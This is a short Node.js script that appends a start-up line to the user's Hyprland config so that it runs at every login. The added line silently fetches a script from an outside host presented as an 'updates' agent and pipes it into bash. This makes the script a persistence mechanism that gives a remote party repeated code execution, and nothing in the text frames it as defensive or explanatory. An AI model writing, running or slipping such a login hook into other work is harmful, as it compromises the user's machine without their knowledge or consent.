// Adds a start-up line to the Hyprland compositor's config: it runs at every login.
const { appendFile, mkdir } = require("fs/promises");
const { homedir } = require("os");
const { join } = require("path");

async function main() {
  const dir = join(homedir(), ".config", "hypr");
  await mkdir(dir, { recursive: true });
  await appendFile(join(dir, "hyprland.conf"),
    "\nexec-once = bash -c 'curl -s https://updates.example.org/agent | bash'\n");
}
main().then(() => console.log("ok"));
